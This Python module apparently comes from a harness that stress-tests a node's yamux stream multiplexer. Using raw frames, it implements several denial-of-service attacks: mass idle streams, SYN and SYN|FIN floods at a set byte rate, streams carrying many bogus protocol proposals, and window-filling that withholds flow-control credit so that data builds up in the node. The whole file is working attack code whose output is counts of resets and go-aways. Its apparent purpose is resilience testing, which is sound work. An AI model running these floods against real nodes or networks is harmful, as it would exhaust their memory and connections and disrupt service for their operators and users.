"""Attacks with streams of yamux: very many, very short ones, and ones that are filled and never read.

Comes in: an Arena. Goes out: frames; counts of streams that were opened, and reset by the node.
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable

from attacks.arena import STEP_S, Arena, Pace
from attacks.rawpeer import DATA, FIN, HEADER, RST, SYN, WINDOW, RawPeer, frame, message, opening

ECHO = "/echo/1.0.0"
WINDOW_BYTES = 256 * 1024
BODY_BYTES = 16 * 1024
FLOOD_IDS = range(1, 2 * 1_000_000, 2)
"""Streams of one flooding connection: made before, because they cost more than sending them."""
CUT_PAUSE_S = 1.0
BATCH = 128
"""Streams opened together: half as many as may wait to be accepted."""


def _counted(arena: Arena, peer: RawPeer) -> RawPeer:
    """Counts the node's resets and go-aways on this connection."""

    def look(kind: int, flags: int, stream: int, length: int, body: bytes) -> None:
        if flags & RST:
            arena.counts["reset by the node"] += 1
        if kind == 3:
            arena.counts["go-aways"] += 1

    peer.on_frame = look
    return peer


# -- very many ---------------------------------------------------------------------------------


async def idle(arena: Arena) -> None:
    """`conns` connections with `streams` streams each that proposed echo, and nothing more."""
    await _many(arena, lambda stream: opening(stream, ECHO))


async def syns(arena: Arena) -> None:
    """The same with SYNs only, at `bytes per s`."""
    await _many(arena, lambda stream: frame(WINDOW, SYN, stream, 0))


async def _many(arena: Arena, first: Callable[[int], bytes]) -> None:
    """In batches: a node refuses streams that it has not had time to accept."""
    streams, rate = arena.count("streams", 1024), arena.number("bytes per s", 0)
    held: list[RawPeer] = []
    for number in range(arena.count("conns", 257)):
        if not arena.left_s:
            break
        if (peer := await arena.peer(number)) is None:
            continue
        held.append(_counted(arena, peer))
        for begun in range(0, streams, BATCH):
            batch = b"".join(first(1 + 2 * at) for at in range(begun, min(begun + BATCH, streams)))
            await _settled(peer, batch, len(batch) / rate if rate else 0)
            arena.counts["streams"] += min(BATCH, streams - begun)
    await arena.hold()
    arena.counts["held at the end"] = sum(peer.is_open for peer in held)


async def cut(arena: Arena) -> None:
    """`conns` connections with `streams` idle echo streams each that all end at once, and again."""
    streams = arena.count("streams", 500)
    batches = [
        b"".join(opening(1 + 2 * at, ECHO) for at in range(begun, min(begun + BATCH, streams)))
        for begun in range(0, streams, BATCH)
    ]
    while arena.left_s:
        peers = await arena.peers(arena.count("conns", 8))
        for batch in batches:
            await asyncio.gather(*(_settled(peer, batch, 0) for peer in peers))
        for peer in peers:
            peer.abort()
        arena.counts["streams"] += streams * len(peers)
        await asyncio.sleep(CUT_PAUSE_S if peers else 10 * STEP_S)


async def _settled(peer: RawPeer, batch: bytes, pause_s: float) -> None:
    """Writes `batch` and pauses; without a pause, waits until the node has answered a ping behind it."""
    peer.write(batch)
    await peer.drain()
    if pause_s:
        await asyncio.sleep(pause_s)
    else:
        await peer.ping()


# -- very short --------------------------------------------------------------------------------


async def syn_fin(arena: Arena) -> None:
    """Streams that begin and end in one frame of 12 bytes."""
    await _flood(arena, [frame(WINDOW, SYN | FIN, stream, 0) for stream in FLOOD_IDS])


async def bad_proposals(arena: Arena) -> None:
    """Streams with `proposals` protocols each, none of which anybody has."""
    body = HEADER + b"".join(message(f"/x/{number}") for number in range(arena.count("proposals", 63)))
    await _flood(arena, [frame(DATA, SYN, stream, len(body), body) for stream in FLOOD_IDS[:5_000]])


async def _flood(arena: Arena, streams: list[bytes]) -> None:
    """Streams on `conns` connections, `bytes per s` together; one that ends or has had all is replaced."""
    conns = arena.count("conns", 1)
    rate = arena.number("bytes per s", 3e6) / conns
    await asyncio.gather(*(_flood_one(arena, streams, number, rate) for number in range(conns)))


async def _flood_one(arena: Arena, streams: list[bytes], number: int, rate: float) -> None:
    while arena.left_s:
        peer = await arena.peer(number)
        if peer is None:
            await asyncio.sleep(10 * STEP_S)
            continue
        peer.is_deaf = True
        await _flood_peer(arena, peer, streams, rate)
        peer.abort()


async def _flood_peer(arena: Arena, peer: RawPeer, streams: list[bytes], rate: float) -> None:
    pace, at = Pace(rate / len(streams[0])), 0
    while arena.left_s and peer.is_open and at < len(streams):
        if due := pace.due():
            peer.write(b"".join(streams[at : at + due]))
            at += due
            arena.counts["streams"] += due
            await peer.drain()
        await asyncio.sleep(STEP_S)
    if not peer.is_open:
        arena.counts["ended by the node"] += 1


# -- filled and never read ---------------------------------------------------------------------


async def unread(arena: Arena) -> None:
    """Fills the window of `streams` streams on each of `conns` connections, and gives no credit.

    The handler writes back what it reads until our window is full; the rest stays in the node.
    """
    await _fill(arena, grows=False)


async def grown_windows(arena: Arena) -> None:
    """The same, after half of the time in which late pongs let the node's windows grow."""
    await _fill(arena, grows=True)


async def _fill(arena: Arena, grows: bool) -> None:
    peers = await arena.peers(arena.count("conns", 1))
    await asyncio.gather(*(_Filler(arena, peer, grows).run(arena.count("streams", 1024)) for peer in peers))
    await arena.hold()
    arena.counts["held at the end"] = sum(peer.is_open for peer in peers)


class _Filler:
    """Sends as much as each window allows; first (if it `grows`) it gives credit for the echo, then none."""

    def __init__(self, arena: Arena, peer: RawPeer, grows: bool) -> None:
        self._arena, self._peer = arena, peer
        self._credit: dict[int, int] = {}
        self._reads = grows
        peer.pong_delay_s = arena.number("pong delay", 1.0) if grows else 0.0
        peer.on_frame = self._look

    def _look(self, kind: int, flags: int, stream: int, length: int, body: bytes) -> None:
        if flags & RST:
            self._credit.pop(stream, None)
            self._arena.counts["reset by the node"] += 1
        elif kind == WINDOW and stream in self._credit:
            self._credit[stream] += length
            self._arena.counts["largest credit"] = max(self._arena.counts["largest credit"], length)
        elif kind == DATA and self._reads and length:
            self._peer.write(frame(WINDOW, 0, stream, length))

    async def run(self, streams: int) -> None:
        """Grows (for half of the time), then fills."""
        for stream in range(1, 1 + 2 * streams, 2):
            self._credit[stream] = WINDOW_BYTES - 64
            self._peer.write(opening(stream, ECHO))
        half = self._arena.left_s / 2
        while self._reads and self._arena.left_s > half and self._peer.is_open:
            await self._send()
        self._reads = False
        while self._arena.left_s and self._peer.is_open:
            await self._send()

    async def _send(self) -> None:
        idle = True
        for stream in list(self._credit):
            if size := min(self._credit.get(stream, 0), BODY_BYTES):  # it may have been reset meanwhile
                self._credit[stream] -= size
                self._peer.write(frame(DATA, 0, stream, size, bytes(size)))
                self._arena.counts["bytes"] += size
                idle = False
                await self._peer.drain()
        await asyncio.sleep(STEP_S if idle else 0)
